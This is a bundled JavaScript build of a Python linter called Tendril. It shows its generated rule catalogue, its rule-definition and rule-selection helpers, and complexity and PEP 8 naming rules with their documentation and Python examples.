var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.RULE_MODULES = void 0;
// Generated by scripts/gen-catalogue.js (run by `npm run build`); do not edit by hand.
// Every module of the rule folders; src/rules/index.ts keeps what defineRule made.
const security_apis = __importStar(__nccwpck_require__(1813));
const security_assert_used = __importStar(__nccwpck_require__(5362));
const security_bind_all_interfaces = __importStar(__nccwpck_require__(9838));
const security_blacklist_calls = __importStar(__nccwpck_require__(5113));
const security_blacklist_imports = __importStar(__nccwpck_require__(1306));
const security_broad_except = __importStar(__nccwpck_require__(2510));
const security_call_with_shell_true = __importStar(__nccwpck_require__(6587));
const security_commands = __importStar(__nccwpck_require__(2962));
const security_common = __importStar(__nccwpck_require__(8925));
const security_django_extra = __importStar(__nccwpck_require__(3588));
const security_django_mark_safe = __importStar(__nccwpck_require__(2223));
const security_django_raw_sql = __importStar(__nccwpck_require__(829));
const security_exec_used = __importStar(__nccwpck_require__(8227));
const security_file_modes = __importStar(__nccwpck_require__(7927));
const security_flask_debug_true = __importStar(__nccwpck_require__(7640));
const security_group_executable_file_permissions = __importStar(__nccwpck_require__(4116));
const security_hardcoded_password_default = __importStar(__nccwpck_require__(5718));
const security_hardcoded_password_func_arg = __importStar(__nccwpck_require__(5040));
const security_hardcoded_password_string = __importStar(__nccwpck_require__(6258));
const security_hardcoded_sql_expression = __importStar(__nccwpck_require__(4826));
const security_hardcoded_tmp_directory = __importStar(__nccwpck_require__(4032));
const security_huggingface_unpinned_download = __importStar(__nccwpck_require__(2009));
const security_insecure_hashlib_function = __importStar(__nccwpck_require__(673));
const security_jinja2_autoescape_false = __importStar(__nccwpck_require__(5033));
const security_key_sizes = __importStar(__nccwpck_require__(7538));
const security_logging_config_insecure_listen = __importStar(__nccwpck_require__(9185));
const security_mako_templates = __importStar(__nccwpck_require__(9914));
const security_markup = __importStar(__nccwpck_require__(655));
const security_paramiko_exec_command = __importStar(__nccwpck_require__(4638));
const security_password_names = __importStar(__nccwpck_require__(9852));
const security_pytorch_unsafe_load = __importStar(__nccwpck_require__(8537));
const security_request_without_cert_validation = __importStar(__nccwpck_require__(7533));
const security_request_without_timeout = __importStar(__nccwpck_require__(7588));
const security_short_cryptographic_key = __importStar(__nccwpck_require__(5948));
const security_snmp_insecure_version = __importStar(__nccwpck_require__(6806));
const security_snmp_weak_cryptography = __importStar(__nccwpck_require__(5096));
const security_snmp = __importStar(__nccwpck_require__(3136));
const security_ssh_no_host_key_verification = __importStar(__nccwpck_require__(1335));
const security_ssl_insecure_version_default = __importStar(__nccwpck_require__(8318));
const security_ssl_insecure_version = __importStar(__nccwpck_require__(5546));
const security_ssl_protocols = __importStar(__nccwpck_require__(3988));
const security_ssl_with_no_version = __importStar(__nccwpck_require__(7364));
const security_start_process_with_no_shell = __importStar(__nccwpck_require__(2756));
const security_start_process_with_partial_path = __importStar(__nccwpck_require__(4251));
const security_start_process_with_shell_literal = __importStar(__nccwpck_require__(3670));
const security_start_process_with_shell = __importStar(__nccwpck_require__(740));
const security_string_literals = __importStar(__nccwpck_require__(3694));
const security_subprocess_shell_true_literal = __importStar(__nccwpck_require__(3147));
const security_subprocess_shell_true = __importStar(__nccwpck_require__(5565));
const security_subprocess_without_shell = __importStar(__nccwpck_require__(9797));
const security_tarfile_unsafe_members = __importStar(__nccwpck_require__(5120));
const security_trojan_source = __importStar(__nccwpck_require__(3780));
const security_try_except_continue = __importStar(__nccwpck_require__(5451));
const security_try_except_pass = __importStar(__nccwpck_require__(7191));
const security_unix_command_wildcard_injection = __importStar(__nccwpck_require__(6997));
const security_unsafe_markup_use = __importStar(__nccwpck_require__(4429));
const security_weak_cryptographic_key = __importStar(__nccwpck_require__(8048));
const security_world_writable_file_permissions = __importStar(__nccwpck_require__(6455));
const security_yaml_unsafe_load = __importStar(__nccwpck_require__(9307));
const maintainability_binding_rule = __importStar(__nccwpck_require__(7663));
const maintainability_cognitive_complexity = __importStar(__nccwpck_require__(4466));
const maintainability_complexity_threshold = __importStar(__nccwpck_require__(1063));
const maintainability_cyclomatic_complexity = __importStar(__nccwpck_require__(1480));
const maintainability_inconsistent_naming = __importStar(__nccwpck_require__(8423));
const maintainability_invalid_argument_name = __importStar(__nccwpck_require__(1734));
const maintainability_invalid_class_name = __importStar(__nccwpck_require__(8643));
const maintainability_invalid_function_name = __importStar(__nccwpck_require__(2191));
const maintainability_invalid_variable_name = __importStar(__nccwpck_require__(7479));
const maintainability_missing_class_docstring = __importStar(__nccwpck_require__(8878));
const maintainability_missing_function_docstring = __importStar(__nccwpck_require__(2428));
const maintainability_missing_module_docstring = __importStar(__nccwpck_require__(2744));
const maintainability_naming_conventions = __importStar(__nccwpck_require__(8208));
const maintainability_too_many_arguments = __importStar(__nccwpck_require__(6378));
const maintainability_too_many_branches = __importStar(__nccwpck_require__(2412));
const maintainability_too_many_nested_blocks = __importStar(__nccwpck_require__(9502));
const maintainability_too_many_statements = __importStar(__nccwpck_require__(6762));
const maintainability_unused_import = __importStar(__nccwpck_require__(9673));
const maintainability_unused_suppression = __importStar(__nccwpck_require__(2477));
const maintainability_unused_variable = __importStar(__nccwpck_require__(4800));
exports.RULE_MODULES = [
    security_apis,
    security_assert_used,
    security_bind_all_interfaces,
    security_blacklist_calls,
    security_blacklist_imports,
    security_broad_except,
    security_call_with_shell_true,
    security_commands,
    security_common,
    security_django_extra,
    security_django_mark_safe,
    security_django_raw_sql,
    security_exec_used,
    security_file_modes,
    security_flask_debug_true,
    security_group_executable_file_permissions,
    security_hardcoded_password_default,
    security_hardcoded_password_func_arg,
    security_hardcoded_password_string,
    security_hardcoded_sql_expression,
    security_hardcoded_tmp_directory,
    security_huggingface_unpinned_download,
    security_insecure_hashlib_function,
    security_jinja2_autoescape_false,
    security_key_sizes,
    security_logging_config_insecure_listen,
    security_mako_templates,
    security_markup,
    security_paramiko_exec_command,
    security_password_names,
    security_pytorch_unsafe_load,
    security_request_without_cert_validation,
    security_request_without_timeout,
    security_short_cryptographic_key,
    security_snmp_insecure_version,
    security_snmp_weak_cryptography,
    security_snmp,
    security_ssh_no_host_key_verification,
    security_ssl_insecure_version_default,
    security_ssl_insecure_version,
    security_ssl_protocols,
    security_ssl_with_no_version,
    security_start_process_with_no_shell,
    security_start_process_with_partial_path,
    security_start_process_with_shell_literal,
    security_start_process_with_shell,
    security_string_literals,
    security_subprocess_shell_true_literal,
    security_subprocess_shell_true,
    security_subprocess_without_shell,
    security_tarfile_unsafe_members,
    security_trojan_source,
    security_try_except_continue,
    security_try_except_pass,
    security_unix_command_wildcard_injection,
    security_unsafe_markup_use,
    security_weak_cryptographic_key,
    security_world_writable_file_permissions,
    security_yaml_unsafe_load,
    maintainability_binding_rule,
    maintainability_cognitive_complexity,
    maintainability_complexity_threshold,
    maintainability_cyclomatic_complexity,
    maintainability_inconsistent_naming,
    maintainability_invalid_argument_name,
    maintainability_invalid_class_name,
    maintainability_invalid_function_name,
    maintainability_invalid_variable_name,
    maintainability_missing_class_docstring,
    maintainability_missing_function_docstring,
    maintainability_missing_module_docstring,
    maintainability_naming_conventions,
    maintainability_too_many_arguments,
    maintainability_too_many_branches,
    maintainability_too_many_nested_blocks,
    maintainability_too_many_statements,
    maintainability_unused_import,
    maintainability_unused_suppression,
    maintainability_unused_variable,
];


/***/ }),

/***/ 5544:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.renderHelp = renderHelp;
exports.defineRule = defineRule;
exports.docsOf = docsOf;
const DOCS = new WeakMap();
/** The Markdown help of a rule, from its docs. */
function renderHelp(docs) {
    const python = (code) => '```python\n' + code.trim() + '\n```';
    return [
        `# ${docs.title}`,
        docs.why.trim(),
        '## Example',
        python(docs.example),
        ...(docs.exampleNote ? [docs.exampleNote.trim()] : []),
        '## How to fix',
        docs.fix.trim(),
        python(docs.fixed),
        '## What is not reported',
        docs.notReported.map((line) => `- ${line}`).join('\n'),
        ...(docs.more ? [docs.more.trim()] : []),
    ].join('\n\n');
}
/** Makes a rule from its definition. */
function defineRule(definition) {
    const meta = { ...definition.meta, help: renderHelp(definition.docs) };
    const rule = {
        meta,
        ...(definition.uses ? { uses: definition.uses } : {}),
        create: (context) => definition.create(context.forRule(meta)),
    };
    DOCS.set(rule, definition.docs);
    return rule;
}
/** The documentation of a rule made by `defineRule`; undefined for a rule made any other way. */
function docsOf(rule) {
    return DOCS.get(rule);
}


/***/ }),

/***/ 5755:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.ALL_RULES = void 0;
exports.rulesOfKind = rulesOfKind;
exports.selectRules = selectRules;
exports.rulesById = rulesById;
const errors_1 = __nccwpck_require__(3916);
const api_1 = __nccwpck_require__(6750);
const catalogue_generated_1 = __nccwpck_require__(6009);
const define_1 = __nccwpck_require__(5544);
/** The rules a module exports: values made by defineRule, alone or in a table (an array). */
function rulesOf(module) {
    const out = [];
    for (const value of Object.values(module)) {
        if (Array.isArray(value))
            out.push(...value.filter((item) => (0, define_1.docsOf)(item) !== undefined));
        else if (value && typeof value === 'object' && (0, define_1.docsOf)(value))
            out.push(value);
    }
    return out;
}
function collect() {
    const seen = new Map();
    for (const module of catalogue_generated_1.RULE_MODULES) {
        for (const rule of rulesOf(module)) {
            const other = seen.get(rule.meta.id);
            if (other && other !== rule)
                throw new Error(`two rules have the id ${rule.meta.id}`);
            seen.set(rule.meta.id, rule);
        }
    }
    return [...seen.values()];
}
/**
 * The catalogue: every rule Tendril has, security first, each kind sorted by id. It is collected
 * from the modules of src/rules/security and src/rules/maintainability (scripts/gen-catalogue.js
 * lists them), so a rule is added by writing its file.
 */
exports.ALL_RULES = collect().sort((a, b) => a.meta.kind === b.meta.kind ? (a.meta.id < b.meta.id ? -1 : 1) : a.meta.kind === 'security' ? -1 : 1);
function rulesOfKind(kind) {
    return exports.ALL_RULES.filter((rule) => rule.meta.kind === kind);
}
/**
 * Resolves selectors to rules: a rule id, an alias any rule lists (`F401`, `B602`; one alias may
 * name several rules), or a kind (`security`, `maintainability`). Unknown selectors are an error
 * that names them.
 */
function selectRules(selectors, what = 'rule') {
    const chosen = new Set();
    for (const selector of selectors) {
        const key = selector.trim();
        const matches = exports.ALL_RULES.filter((rule) => rule.meta.kind === key || (0, api_1.namesRule)(key, rule.meta));
        if (matches.length === 0) {
            throw new errors_1.UsageError(`unknown ${what} '${key}': use a rule id, an alias such as F401, or security/maintainability (see 'tendril rules')`);
        }
        for (const rule of matches)
            chosen.add(rule);
    }
    return exports.ALL_RULES.filter((rule) => chosen.has(rule));
}
function rulesById(ids) {
    return ids.map((id) => {
        const rule = exports.ALL_RULES.find((r) => r.meta.id === id);
        if (!rule)
            throw new Error(`no rule with id ${id}`);
        return rule;
    });
}


/***/ }),

/***/ 7663:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.bindingRule = bindingRule;
/**
 * The common shape of the rules that judge the bindings of the shared scope model
 * (src/analysis/scopes.ts) once the walk is over: each binding of the file, in the model's order,
 * is given to the rule's judge, which returns nothing, a message (reported on the bound name) or
 * a message with the node to report it on.
 */
const scopes_1 = __nccwpck_require__(7985);
const define_1 = __nccwpck_require__(5544);
function bindingRule(definition) {
    const { judge, ...rest } = definition;
    return (0, define_1.defineRule)({
        ...rest,
        uses: [scopes_1.scopes],
        create(context) {
            return {
                end() {
                    const model = context.analysis(scopes_1.scopes);
                    const verdictOf = judge(context, model);
                    for (const binding of model.bindings) {
                        const verdict = verdictOf(binding);
                        if (verdict === undefined)
                            continue;
                        if (typeof verdict === 'string')
                            context.report(binding.node, verdict);
                        else
                            context.report(verdict.node, verdict.message);
                    }
                },
            };
        },
    });
}


/***/ }),

/***/ 4466:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.cognitiveComplexity = void 0;
/** SonarSource's Cognitive Complexity (Sonar S3776): how hard a function is to read. No Ruff rule. */
const complexity_threshold_1 = __nccwpck_require__(1063);
exports.cognitiveComplexity = (0, complexity_threshold_1.thresholdRule)({
    meta: {
        id: 'cognitive-complexity',
        name: 'CognitiveComplexity',
        shortDescription: 'A function has a cognitive complexity above the threshold',
        fullDescription: "A function scores above the threshold on SonarSource's Cognitive Complexity: breaks in the " +
            'linear flow (conditions, loops, exception handlers, boolean operator sequences, recursion), ' +
            'weighted by how deeply they are nested. Such functions are hard to read and to review.',
        aliases: ['S3776'],
        precision: 'high',
    },
    docs: {
        title: 'A function is hard to follow',
        why: `Cognitive complexity, as defined by SonarSource, scores how hard a function is to read rather than
how many paths it has: every break in the linear flow costs 1, and costs more the deeper it is
nested, because the reader must keep every enclosing condition in mind.

- +1, plus the current nesting level, for each \`if\`, \`for\`, \`while\`, \`except\`, \`match\`
  and conditional expression (\`a if c else b\`).
- +1 for each \`elif\` and \`else\` (of an \`if\` or a loop), without a nesting part.
- +1 for each sequence of like boolean operators: \`a and b and c\` is 1, \`a and b or c\` is 2.
- +1 for each direct recursive call.
- The nesting level rises inside those blocks, in nested functions and in lambdas. \`try\`,
  \`finally\`, \`with\` and \`else\` of a \`try\` add nothing.`,
        example: `def total(orders):
    result = 0
    for order in orders:                 # +1
        if order.paid:                   # +2 (nesting 1)
            for line in order.lines:     # +3 (nesting 2)
                if line.qty and line.price:  # +4 (nesting 3), +1 (and)
                    result += line.qty * line.price
                else:                    # +1
                    log.warning("empty line in order %s", order.id)
        elif order.refunded:             # +1
            while order.credits:         # +3 (nesting 2)
                result -= order.credits.pop()
    return result                        # 16 in all`,
        fix: `Flatten the function: return or \`continue\` early instead of nesting, extract inner loops and
conditions into named helpers, and name complex conditions with a variable or a small function.
The threshold is the \`max-complexity\` option (default 15, SonarSource's default for Python).`,
        fixed: `def total(orders):
    return sum(order_total(order) for order in orders)


def order_total(order):
    if order.refunded:                   # +1
        return -sum(order.credits)
    if not order.paid:                   # +1
        return 0
    return sum(line_total(line) for line in order.lines)


def line_total(line):
    priced = line.qty and line.price     # +1 (and)
    return line.qty * line.price if priced else 0  # +1`,
        notReported: ['Functions at or below the threshold.'],
        more: `A nested function's score counts for the function that contains it (at a deeper nesting level)
and it is also measured on its own.`,
    },
    option: 'max-complexity',
    defaultThreshold: 15,
    optionDescription: 'Report functions whose cognitive complexity is greater than this.',
    measure: (m) => m.cognitive,
    describe: (m, v) => `\`${m.name}\` has a cognitive complexity of ${v}`,
});


/***/ }),

/***/ 1063:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.thresholdRule = thresholdRule;
/**
 * The common shape of the complexity rules: one measure from the shared complexity analysis
 * (src/analysis/complexity.ts), one integer threshold option, a finding on the function's name
 * when the measure is greater than the threshold. The message states both numbers.
 */
const complexity_1 = __nccwpck_require__(600);
const define_1 = __nccwpck_require__(5544);
function thresholdRule(spec) {
    return (0, define_1.defineRule)({
        meta: {
            ...spec.meta,
            kind: 'maintainability',
            category: 'complexity',
            problemSeverity: 'recommendation',
            options: {
                [spec.option]: { type: 'integer', default: spec.defaultThreshold, min: 0, description: spec.optionDescription },
            },
        },
        docs: spec.docs,
        uses: [complexity_1.complexity],
        create(context) {
            return {
                end() {
                    const threshold = context.option(spec.option);
                    const model = context.analysis(complexity_1.complexity);
                    for (const metrics of model.functions) {
                        const value = spec.measure(metrics);
                        if (value > threshold)
                            context.report(metrics.nameNode, `${spec.describe(metrics, value)} (threshold ${threshold})`);
                    }
                },
            };
        },
    });
}


/***/ }),

/***/ 1480:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.cyclomaticComplexity = void 0;
/** Ruff / mccabe C901: a function whose McCabe complexity is greater than the threshold (default 10). */
const complexity_threshold_1 = __nccwpck_require__(1063);
exports.cyclomaticComplexity = (0, complexity_threshold_1.thresholdRule)({
    meta: {
        id: 'cyclomatic-complexity',
        name: 'CyclomaticComplexity',
        shortDescription: 'A function has a cyclomatic complexity above the threshold',
        fullDescription: 'A function has more decision points (if, elif, loops, except handlers, match cases, nested ' +
            'functions) than the threshold allows, counted as Ruff and mccabe count them (C901). Such ' +
            'functions have many independent paths, which are hard to test and to change safely.',
        aliases: ['C901'],
        precision: 'very-high',
    },
    docs: {
        title: 'A function has too many independent paths',
        why: `McCabe's cyclomatic complexity counts the decision points of a function: the number of paths a
test suite must take to run every branch. Past about ten, a function is hard to test completely
and hard to change without breaking one of its paths.

The count is Ruff's (rule C901, from the mccabe plugin): 1, plus 1 for each \`if\`, \`elif\`,
\`for\`, \`while\`, \`except\` handler, \`else\` of a \`try\`, and \`case\` of a \`match\` (a final
catch-all \`case _:\` adds nothing), and 1 for each nested \`def\` together with its own decision
points. \`else\` of an \`if\` or a loop, \`with\`, \`finally\`, boolean operators, conditional
expressions, comprehensions and lambdas add nothing.`,
        example: `def shipping(order):  # complexity 11
    if order.express:
        ...
    elif order.country == "FR":
        ...
    elif order.country == "DE":
        ...
    for item in order.items:
        if item.fragile:
            ...
        elif item.heavy:
            ...
        if item.oversized:
            ...
    while order.pending:
        ...
    try:
        ...
    except LookupError:
        ...
    except ValueError:
        ...`,
        fix: `Split the function: move each independent decision into a helper with a name that says what it
decides, replace long \`if\`/\`elif\` chains on one value with a dictionary lookup, and return early
instead of nesting. Raise the threshold with the \`max-complexity\` option if your team agrees on
another limit.`,
        fixed: `RATES = {"FR": ..., "DE": ...}


def shipping(order):
    rate = EXPRESS if order.express else RATES.get(order.country, DEFAULT)
    return rate + sum(handling(item) for item in order.items)


def handling(item):
    if item.fragile:
        ...
    elif item.heavy:
        ...
    if item.oversized:
        ...`,
        notReported: ['Functions at or below the threshold, lambdas, and module or class bodies outside functions.'],
        more: `A nested function is reported on its own when it is over the threshold, and its decision points
also count for the function that contains it, as Ruff counts them.`,
    },
    option: 'max-complexity',
    defaultThreshold: 10,
    optionDescription: 'Report functions whose cyclomatic complexity is greater than this.',
    measure: (m) => m.cyclomatic,
    describe: (m, v) => `\`${m.name}\` has a cyclomatic complexity of ${v}`,
});


/***/ }),

/***/ 8423:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.inconsistentNaming = void 0;
exports.styleOf = styleOf;
/**
 * inconsistent-naming: a module that mixes snake_case and camelCase for one kind of name. No peer
 * tool has this check.
 *
 * Kinds: functions, methods, parameters, local variables (bound in functions). Per kind, the
 * distinct names that show a style are counted: snake_case (lowercase words joined by `_`) and
 * camelCase (starts lowercase, has an uppercase letter, no `_`). One-word lowercase names, dunders,
 * `_` and other names fit both or neither and are not counted. When both styles occur, the style
 * with more names dominates, and each binding of a name in the other style gets one note. A tie
 * gives no note: there is no dominant style.
 *
 * Combination with the PEP 8 rules (invalid-function-name, invalid-argument-name,
 * invalid-variable-name): those already report every camelCase function, method, parameter and
 * local, so this rule stays silent on camelCase names; in practice it reports snake_case names in
 * modules whose dominant style is camelCase. A name never gets two notes for one problem.
 */
const naming_conventions_1 = __nccwpck_require__(8208);
const scopes_1 = __nccwpck_require__(7985);
const define_1 = __nccwpck_require__(5544);
const SNAKE = /^_*[a-z][a-z0-9]*(_[a-z0-9]+)+_?$/;
const CAMEL = /^_*[a-z][a-z0-9]*[A-Z][A-Za-z0-9]*$/;
function styleOf(name) {
    if ((0, naming_conventions_1.isDunder)(name))
        return undefined;
    if (SNAKE.test(name))
        return 'snake_case';
    if (CAMEL.test(name))
        return 'camelCase';
    return undefined;
}
function kindOf(binding) {
    switch (binding.kind) {
        case 'function':
            return binding.scope.kind === 'class' ? 'method' : 'function';
        case 'parameter':
            return binding.scope.kind === 'function' || binding.scope.kind === 'lambda' ? 'parameter' : undefined;
        case 'assignment':
        case 'augmented':
        case 'for':
        case 'with':
        case 'walrus':
            return binding.scope.kind === 'function' && !binding.declared ? 'local variable' : undefined;
        default:
            return undefined;
    }
}
const PLURAL = {
    function: 'function names',
    method: 'method names',
    parameter: 'parameter names',
    'local variable': 'local variable names',
};
exports.inconsistentNaming = (0, define_1.defineRule)({
    meta: {
        id: 'inconsistent-naming',
        name: 'InconsistentNaming',
        kind: 'maintainability',
        shortDescription: 'A name breaks the naming style the rest of the module uses',
        fullDescription: 'A module mixes snake_case and camelCase for the same kind of name (functions, methods, ' +
            'parameters, local variables). Each name in the minority style is reported, with the style ' +
            'that dominates and by how much, so the module can be made consistent.',
        category: 'naming',
        aliases: [],
        precision: 'high',
        problemSeverity: 'recommendation',
    },
    docs: {
        title: 'A name breaks the naming style the module uses',
        why: `A module that names most of its functions (or methods, parameters, local variables) in camelCase
and a few in snake_case, or the other way round, makes readers and callers guess the spelling of
every name. This rule finds the dominant style of each kind of name in the module and points at
the names that break it.`,
        example: `def loadConfig(path): ...
def parseArgs(argv): ...
def writeOutput(data): ...
def save_state(state): ...`,
        exampleNote: '`save_state` is reported: 3 of the 4 function names in the module are camelCase.',
        fix: `Rename the odd names to the module's dominant style, or, better, move the module to PEP 8's
snake_case as a whole.`,
        fixed: `def load_config(path): ...
def parse_args(argv): ...
def write_output(data): ...
def save_state(state): ...`,
        notReported: ['Modules, or kinds of names, using one style only; ties.', 'camelCase names (see below), dunder names, one-word names.'],
        more: `## How it decides

Function names, method names, parameter names and local variable names are counted separately.
Only names that show a style count: \`load_config\` is snake_case, \`loadConfig\` is camelCase;
one-word lowercase names such as \`path\` fit both and are not counted, nor are dunder names.
The style with more distinct names dominates; a tie has no dominant style and gives no note.

## How it combines with the PEP 8 naming rules

\`invalid-function-name\`, \`invalid-argument-name\` and \`invalid-variable-name\` already report
every camelCase function, method, parameter and local variable. So that no name gets two notes
for one problem, this rule is silent on camelCase names: it reports snake_case names in modules
(or kinds of names) whose dominant style is camelCase. A module written consistently in camelCase
gets no note from this rule.`,
    },
    uses: [scopes_1.scopes],
    create(context) {
        return {
            end() {
                const model = context.analysis(scopes_1.scopes);
                const byKind = new Map();
                for (const binding of model.bindings) {
                    const kind = kindOf(binding);
                    const style = kind && styleOf(binding.name);
                    if (!kind || !style)
                        continue;
                    let entry = byKind.get(kind);
                    if (!entry)
                        byKind.set(kind, (entry = { names: { snake_case: new Set(), camelCase: new Set() }, bindings: [] }));
                    entry.names[style].add(binding.name);
                    entry.bindings.push(binding);
                }
                for (const [kind, { names, bindings }] of byKind) {
                    const snake = names.snake_case.size;
                    const camel = names.camelCase.size;
                    // Only a camelCase majority leads to notes: camelCase minorities are PEP 8 findings.
                    if (snake === 0 || camel <= snake)
                        continue;
                    const total = snake + camel;
                    for (const binding of bindings) {
                        if (styleOf(binding.name) !== 'snake_case' || !(0, naming_conventions_1.isLowercase)(binding.name))
                            continue;
                        context.report(binding.node, `\`${binding.name}\` is snake_case, but this module names its ${PLURAL[kind]} in camelCase (${camel} of ${total})`);
                    }
                }
            },
        };
    },
});


/***/ }),

/***/ 1734:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.invalidArgumentName = void 0;
/**
 * pep8-naming N803: parameters of functions and lambdas are lowercase; not checked for
 * `@override` methods (the base class chose the names), nor for names matching `ignore-names`.
 */
const binding_rule_1 = __nccwpck_require__(7663);
const naming_conventions_1 = __nccwpck_require__(8208);
exports.invalidArgumentName = (0, binding_rule_1.bindingRule)({
    meta: (0, naming_conventions_1.namingMeta)({
        id: 'invalid-argument-name',
        name: 'InvalidArgumentName',
        shortDescription: 'A parameter name is not lowercase',
        fullDescription: 'PEP 8 names function parameters in lowercase with underscores. Parameter names are part of a ' +
            "function's interface (callers pass them as keywords), so a camelCase parameter spreads the " +
            'inconsistency to every call site.',
        aliases: ['N803', 'C0103'],
    }),
    docs: (0, naming_conventions_1.namingDocs)({
        title: 'A parameter name is not lowercase',
        why: `Parameters are part of the interface: callers write \`fetch(url, maxRetries=3)\`. PEP 8 spells
them in lowercase with underscores, like other variables.`,
        example: `def fetch(url, maxRetries=3):
    ...`,
        exampleNote: '`maxRetries` is reported.',
        fix: `Rename the parameter (\`max_retries\`) and its keyword uses; for public API, accept the old keyword
for a while.`,
        fixed: `def fetch(url, max_retries=3):
    ...`,
        notReported: ['Parameters of methods decorated with `@override`: the base class chose the names.', 'Names matching `ignore-names`.'],
    }),
    judge: (context) => (b) => {
        if (b.kind !== 'parameter' || (0, naming_conventions_1.isLowercase)(b.name) || (0, naming_conventions_1.ignoredName)(context, b.name))
            return undefined;
        if (b.scope.kind === 'function' && (0, naming_conventions_1.isOverride)(b.scope.node))
            return undefined;
        return `Argument name \`${b.name}\` should be lowercase`;
    },
});


/***/ }),

/***/ 8643:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.invalidClassName = void 0;
/**
 * pep8-naming N801: without its leading underscores, a class name starts with an uppercase letter
 * and has no underscore. Not reported: names matching `ignore-names`.
 */
const binding_rule_1 = __nccwpck_require__(7663);
const naming_conventions_1 = __nccwpck_require__(8208);
exports.invalidClassName = (0, binding_rule_1.bindingRule)({
    meta: (0, naming_conventions_1.namingMeta)({
        id: 'invalid-class-name',
        name: 'InvalidClassName',
        shortDescription: 'A class name does not use the CapWords convention',
        fullDescription: 'PEP 8 names classes in CapWords (`HttpClient`, `ParseError`): a class named `http_client` or ' +
            '`Http_Client` reads like a function or variable, and callers cannot tell they are ' +
            'instantiating a class.',
        aliases: ['N801', 'C0103'],
    }),
    docs: (0, naming_conventions_1.namingDocs)({
        title: 'A class name does not use CapWords',
        why: `PEP 8 spells class names in CapWords, so that \`Parser(text)\` visibly creates an object and
\`parse(text)\` visibly calls a function. A lowercase or underscored class name hides that.`,
        example: `class http_client:
    ...

class Http_Client:
    ...`,
        exampleNote: 'Both are reported.',
        fix: `Rename the class: \`class HttpClient:\`. Keep an alias for old callers if it is public API
(\`http_client = HttpClient\`).`,
        fixed: `class HttpClient:
    ...

http_client = HttpClient  # the old name, for existing callers`,
        notReported: ['Leading underscores: `class _Helper:` is fine (the rest must be CapWords).', 'Names matching `ignore-names`.'],
    }),
    judge: (context) => (b) => {
        if (b.kind !== 'class' || (0, naming_conventions_1.isCapWords)(b.name) || (0, naming_conventions_1.ignoredName)(context, b.name))
            return undefined;
        return `Class name \`${b.name}\` should use CapWords`;
    },
});


/***/ }),

/***/ 2191:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.invalidFunctionName = void 0;
/**
 * pep8-naming N802: function and method names are lowercase. Exempt: dunder names, `@override`
 * and `@overload` functions, `visit_*` methods of `ast.NodeVisitor` / `ast.NodeTransformer`
 * subclasses, `do_*` methods of `BaseHTTPRequestHandler` subclasses (subclasses of subclasses in
 * the same module too), and the names of the `ignore-names` option (by default the unittest hooks
 * `setUp`, `tearDown`, ...).
 */
const binding_rule_1 = __nccwpck_require__(7663);
const naming_conventions_1 = __nccwpck_require__(8208);
exports.invalidFunctionName = (0, binding_rule_1.bindingRule)({
    meta: (0, naming_conventions_1.namingMeta)({
        id: 'invalid-function-name',
        name: 'InvalidFunctionName',
        shortDescription: 'A function or method name is not lowercase',
        fullDescription: 'PEP 8 names functions and methods in lowercase with underscores (`load_config`). A camelCase or ' +
            'CapWords function name reads like a class and clashes with the rest of the Python ecosystem.',
        aliases: ['N802', 'C0103'],
    }),
    docs: (0, naming_conventions_1.namingDocs)({
        title: 'A function name is not lowercase',
        why: `PEP 8 spells function and method names in lowercase, words separated by underscores. A
\`CapWords\` function looks like a class at the call site, and camelCase names mix two styles in
one code base.`,
        example: `def loadConfig(path):
    ...`,
        exampleNote: '`loadConfig` is reported.',
        fix: 'Rename it, `def load_config(path):`, and update the callers.',
        fixed: `def load_config(path):
    ...`,
        notReported: [
            'Dunder methods (`__init__`, `__getItem__` is not a real dunder but is still exempt).',
            'Methods decorated with `@override` or `@overload`: the name is chosen elsewhere.',
            `\`visit_*\` methods of \`ast.NodeVisitor\` and \`ast.NodeTransformer\` subclasses
  (\`visit_FunctionDef\`): the node class names are part of the name. Likewise \`do_GET\`,
  \`do_POST\`, ... of \`http.server.BaseHTTPRequestHandler\` subclasses. Subclasses of subclasses
  defined in the same module count too.`,
            'Names matching `ignore-names`, by default the `unittest` hooks (`setUp`, `tearDownClass`, ...).',
        ],
    }),
    judge: (context, model) => (b) => {
        if (b.kind !== 'function' || (0, naming_conventions_1.isLowercase)(b.name) || (0, naming_conventions_1.isDunder)(b.name))
            return undefined;
        if ((0, naming_conventions_1.ignoredName)(context, b.name) || (0, naming_conventions_1.isOverride)(b.owner))
            return undefined;
        if (b.scope.kind === 'class' && b.name.startsWith('visit_') && (0, naming_conventions_1.inherits)(model, b.scope, /\b(NodeVisitor|NodeTransformer)\b/))
            return undefined;
        if (b.scope.kind === 'class' && b.name.startsWith('do_') && (0, naming_conventions_1.inherits)(model, b.scope, /HTTPRequestHandler\b/))
            return undefined;
